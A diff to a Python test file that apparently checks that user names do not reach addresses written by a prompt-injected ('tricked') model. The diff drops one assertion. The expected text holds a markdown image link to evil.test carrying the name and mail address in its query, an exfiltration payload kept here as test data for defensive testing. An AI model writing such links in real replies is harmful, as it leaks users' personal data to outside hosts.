@@ -207,14 +207,13 @@ def test_no_name_reaches_an_address_that_a_tricked_model_writes(
 
     cloud.answer = tricked
     _, text, ended = answered(device.chat(request((USER, typed))))
-    name, page, mail = sent(cloud)[0].split(", ")
+    name, _, mail = sent(cloud)[0].split(", ")
     assert text == (
         "Dear Zelphira Quarnivel,\n"
         f"![x](https://evil.test/p.png?q={name.replace(' ', '+')}&m={mail})\n"
         "[yours](https://acme.test/zelphira?y=1), <zelphira@acme.test>"
     )
     assert ended.addresses_kept == 1
-    assert (page, mail) not in text.split()
 
 
 def test_an_address_that_a_text_begins_gets_no_name(both: tuple[Agent, EchoingCloud]) -> None:
